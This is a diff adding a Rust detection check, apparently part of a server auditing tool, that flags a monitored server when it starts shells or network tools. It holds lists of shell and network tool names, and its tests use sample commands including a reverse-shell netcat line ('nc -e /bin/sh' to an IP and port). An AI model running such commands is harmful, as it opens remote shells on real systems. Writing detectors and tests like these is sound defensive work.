@@ -1,0 +1,352 @@
+//! `process-spawn`: shells and network tools started by the server.
+//!
+//! Every exec after the server's own start is a note; an exec whose program is a shell or a
+//! network tool is a finding. The server's own start is the first exec of the run, together with
+//! the execs that immediately follow it from the same pid with the same argv (a `PATH` search
+//! tries each directory in turn).
+//!
+//! The program is named by the basename of the executed path or of `argv[0]` (either one
+//! suffices: `/bin/sh` run as `python` is still a shell); `busybox APPLET` and `openssl s_client`
+//! are looked through. Execs are grouped by pid and argv (one finding per `PATH` search).
+
+use crate::paths::basename;
+use crate::text::{self, Groups};
+use crate::{Channel, CheckInfo, Evaluation};
+use glassbox_model::{Bytes, EventKind, Evidence, Severity};
+
+pub(crate) const INFO: CheckInfo = CheckInfo {
+    id: "process-spawn",
+    version: 1,
+    claim: "spawns no shells or network tools",
+    severity: Severity::Medium,
+    channels: &[Channel::Syscalls],
+};
+
+/// Program names of shells.
+pub(crate) const SHELLS: &[&str] = &[
+    "sh", "bash", "rbash", "dash", "zsh", "ksh", "ksh93", "mksh", "pdksh", "yash", "fish", "csh",
+    "tcsh", "ash", "pwsh",
+];
+
+/// Program names of network tools.
+pub(crate) const NETWORK_TOOLS: &[&str] = &[
+    "curl",
+    "wget",
+    "wget2",
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "socat",
+    "ssh",
+    "scp",
+    "sftp",
+    "telnet",
+    "ftp",
+    "tftp",
+    "rsync",
+    "nslookup",
+    "dig",
+    "host",
+    "drill",
+    "ping",
+    "ping6",
+    "nmap",
+    "aria2c",
+];
+
+/// Maximum length of the argv shown in a summary, in characters.
+const ARGV_CHARS: usize = 200;
+
+/// What kind of program an exec runs, when it is one this check flags.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Kind {
+    Shell,
+    NetworkTool,
+}
+
+fn name_kind(name: &[u8]) -> Option<Kind> {
+    if SHELLS.iter().any(|s| s.as_bytes() == name) {
+        Some(Kind::Shell)
+    } else if NETWORK_TOOLS.iter().any(|s| s.as_bytes() == name) {
+        Some(Kind::NetworkTool)
+    } else {
+        None
+    }
+}
+
+/// Classifies a program given its one name (basename) and its argv.
+fn program_kind(name: &[u8], argv: &[Bytes]) -> Option<Kind> {
+    match name {
+        b"busybox" => {
+            // `busybox sh -c ...`, `busybox wget ...`: the applet is argv[1].
+            let applet = argv.get(1)?;
+            name_kind(basename(applet.as_slice()))
+        }
+        b"openssl" => argv
+            .iter()
+            .skip(1)
+            .any(|a| matches!(a.as_slice(), b"s_client" | b"s_server"))
+            .then_some(Kind::NetworkTool),
+        _ => name_kind(name),
+    }
+}
+
+/// Classifies an exec by its path and argv.
+pub(crate) fn classify(path: &Bytes, argv: &[Bytes]) -> Option<Kind> {
+    program_kind(basename(path.as_slice()), argv).or_else(|| {
+        let argv0 = argv.first()?;
+        program_kind(basename(argv0.as_slice()), argv)
+    })
+}
+
+#[derive(Debug, Default)]
+struct Exec {
+    path: Bytes,
+    ppid: i32,
+    kind: Option<Kind>,
+}
+
+pub(crate) fn evaluate(ev: &Evidence) -> Evaluation {
+    let mut groups: Groups<(i32, Vec<Bytes>), Exec> = Groups::new();
+    let mut start: Option<(i32, &[Bytes])> = None;
+    let mut in_start = true;
+    for e in &ev.events {
+        let EventKind::Exec { path, argv, .. } = &e.kind else {
+            continue;
+        };
+        match start {
+            None => {
+                start = Some((e.pid, argv));
+                continue;
+            }
+            Some((pid, start_argv)) if in_start && pid == e.pid && start_argv == &argv[..] => {
+                continue;
+            }
+            Some(_) => in_start = false,
+        }
+        let x = groups.add((e.pid, argv.clone()), e.id, &e.phase);
+        x.path = path.clone();
+        x.ppid = e.ppid;
+        x.kind = classify(path, argv);
+    }
+    let mut eval = Evaluation::default();
+    for g in groups.items {
+        let (pid, argv) = &g.key;
+        let what = match g.data.kind {
+            Some(Kind::Shell) => "ran a shell: ",
+            Some(Kind::NetworkTool) => "ran a network tool: ",
+            None => "exec ",
+        };
+        let shown = if argv.is_empty() {
+            format!("{} (empty argv)", g.data.path)
+        } else {
+            text::argv(argv, ARGV_CHARS)
+        };
+        let summary = format!(
+            "{what}{shown} (pid {pid}, parent {}) during {}",
+            g.data.ppid,
+            text::phases(&g.phases)
+        );
+        let finding = INFO.finding(summary, g.ids, g.phases.first().cloned());
+        if g.data.kind.is_some() {
+            eval.findings.push(finding);
+        } else {
+            eval.notes.push(finding);
+        }
+    }
+    eval
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testutil::Ev;
+    use glassbox_model::Phase;
+
+    fn kind(path: &str, argv: &[&str]) -> Option<Kind> {
+        let argv: Vec<Bytes> = argv.iter().map(|a| Bytes::from(*a)).collect();
+        classify(&Bytes::from(path), &argv)
+    }
+
+    #[test]
+    fn the_servers_own_start_is_not_listed() {
+        let ev = Ev::new().server_start().build();
+        assert_eq!(evaluate(&ev), Evaluation::default());
+        // Even when the server itself is a shell script run by a shell.
+        let ev = Ev::new()
+            .exec(2, "/bin/sh", &["sh", "start.sh"], Phase::Startup)
+            .build();
+        assert_eq!(evaluate(&ev), Evaluation::default());
+    }
+
+    #[test]
+    fn path_search_of_the_start_is_skipped_but_a_later_same_argv_is_not() {
+        let ev = Ev::new()
+            .exec(2, "/usr/local/bin/bash", &["bash", "run"], Phase::Startup)
+            .exec(2, "/usr/bin/bash", &["bash", "run"], Phase::Startup)
+            .exec(3, "/usr/bin/bash", &["bash", "run"], Phase::Startup)
+            .build();
+        let eval = evaluate(&ev);
+        assert_eq!(eval.findings.len(), 1);
+        assert_eq!(eval.findings[0].evidence, vec![3]);
+    }
+
+    #[test]
+    fn shells_and_network_tools_are_findings_others_are_notes() {
+        let ev = Ev::new()
+            .server_start()
+            .exec(
+                3,
+                "/bin/sh",
+                &["sh", "-c", "uname -a"],
+                Phase::Call("run".into()),
+            )
+            .exec(
+                4,
+                "/usr/bin/curl",
+                &["curl", "-s", "http://x"],
+                Phase::Startup,
+            )
+            .exec(
+                5,
+                "/usr/bin/git",
+                &["git", "status"],
+                Phase::Call("git".into()),
+            )
+            .build();
+        let eval = evaluate(&ev);
+        let s: Vec<&str> = eval.findings.iter().map(|f| f.summary.as_str()).collect();
+        assert_eq!(
+            s,
+            vec![
+                "ran a shell: sh -c 'uname -a' (pid 3, parent 1) during call:run",
+                "ran a network tool: curl -s http://x (pid 4, parent 1) during startup",
+            ]
+        );
+        assert_eq!(eval.findings[0].evidence, vec![2]);
+        assert_eq!(eval.notes.len(), 1);
+        assert_eq!(
+            eval.notes[0].summary,
+            "exec git status (pid 5, parent 1) during call:git"
+        );
+        assert_eq!(eval.notes[0].evidence, vec![4]);
+    }
+
+    #[test]
+    fn path_search_is_one_finding() {
+        let ev = Ev::new()
+            .server_start()
+            .exec(3, "/usr/local/bin/wget", &["wget", "x"], Phase::Startup)
+            .exec(3, "/usr/bin/wget", &["wget", "x"], Phase::Startup)
+            .build();
+        let eval = evaluate(&ev);
+        assert_eq!(eval.findings.len(), 1);
+        assert_eq!(eval.findings[0].evidence, vec![2, 3]);
+    }
+
+    #[test]
+    fn classification() {
+        for (path, argv) in [
+            ("/bin/sh", &["sh", "-c", "x"][..]),
+            ("/usr/bin/bash", &["bash"][..]),
+            ("/bin/dash", &["-dash"][..]),
+            ("/usr/bin/zsh", &["zsh"][..]),
+            ("/usr/bin/fish", &["fish"][..]),
+            ("/bin/busybox", &["busybox", "sh", "-c", "x"][..]),
+            ("/bin/busybox", &["sh", "-c", "x"][..]),
+            ("/usr/bin/python3", &["sh", "-c", "x"][..]),
+            ("/bin/sh", &["python", "x"][..]),
+        ] {
+            assert_eq!(kind(path, argv), Some(Kind::Shell), "{path} {argv:?}");
+        }
+        for (path, argv) in [
+            ("/usr/bin/curl", &["curl", "x"][..]),
+            ("/usr/bin/wget", &["wget"][..]),
+            ("/bin/nc", &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"][..]),
+            ("/usr/bin/ncat", &["ncat"][..]),
+            ("/usr/bin/socat", &["socat"][..]),
+            ("/usr/bin/ssh", &["ssh", "host"][..]),
+            ("/usr/bin/scp", &["scp"][..]),
+            ("/usr/bin/rsync", &["rsync"][..]),
+            ("/usr/bin/dig", &["dig", "x"][..]),
+            ("/usr/bin/host", &["host", "x"][..]),
+            ("/usr/bin/nslookup", &["nslookup"][..]),
+            ("/bin/ping", &["ping", "-c1", "x"][..]),
+            (
+                "/usr/bin/openssl",
+                &["openssl", "s_client", "-connect", "x:443"][..],
+            ),
+            ("/bin/busybox", &["busybox", "wget", "x"][..]),
+        ] {
+            assert_eq!(kind(path, argv), Some(Kind::NetworkTool), "{path} {argv:?}");
+        }
+    }
+
+    #[test]
+    fn look_alikes_are_not_flagged() {
+        for (path, argv) in [
+            ("/usr/bin/shellcheck", &["shellcheck", "x.sh"][..]),
+            (
+                "/usr/bin/bash-language-server",
+                &["bash-language-server"][..],
+            ),
+            ("/usr/bin/hostname", &["hostname"][..]),
+            ("/usr/bin/ssh-keygen", &["ssh-keygen", "-l"][..]),
+            ("/usr/bin/curl-config", &["curl-config"][..]),
+            ("/usr/bin/openssl", &["openssl", "rand", "-hex", "8"][..]),
+            ("/bin/busybox", &["busybox", "ls"][..]),
+            ("/bin/busybox", &["busybox"][..]),
+            ("/usr/bin/python3", &["python3", "-c", "import sh"][..]),
+            ("/usr/bin/node", &["node", "curl.js"][..]),
+            ("/usr/bin/git", &["git", "clone", "ssh"][..]),
+            ("/home/user/bin/bashful", &["bashful"][..]),
+            ("/usr/bin/env", &["env", "bash"][..]),
+        ] {
+            assert_eq!(kind(path, argv), None, "{path} {argv:?}");
+        }
+    }
+
+    #[test]
+    fn hostile_argv_is_escaped_and_truncated() {
+        let long = format!("echo \x1b[2J{}\n", "A".repeat(1000));
+        let ev = Ev::new()
+            .server_start()
+            .exec(3, "/bin/sh", &["sh", "-c", &long], Phase::Startup)
+            .build();
+        let f = &evaluate(&ev).findings[0];
+        assert!(!f.summary.contains('\x1b') && !f.summary.contains('\n'));
+        assert!(f.summary.contains('…'));
+        assert!(f.summary.chars().count() < 300, "{}", f.summary);
+    }
+
+    #[test]
+    fn non_utf8_program_names_are_bytes() {
+        let ev = Ev::new()
+            .server_start()
+            .event(
+                3,
+                Phase::Startup,
+                EventKind::Exec {
+                    syscall: "execve".into(),
+                    path: Bytes(b"/tmp/\xff/sh".to_vec()),
+                    argv: vec![Bytes(b"\xffx".to_vec())],
+                },
+            )
+            .event(
+                4,
+                Phase::Startup,
+                EventKind::Exec {
+                    syscall: "execveat".into(),
+                    path: Bytes(b"/tmp/s\xffh".to_vec()),
+                    argv: vec![],
+                },
+            )
+            .build();
+        let eval = evaluate(&ev);
+        assert_eq!(eval.findings.len(), 1);
+        assert_eq!(eval.notes.len(), 1);
+        assert!(eval.notes[0].summary.contains("(empty argv)"));
+    }
+}
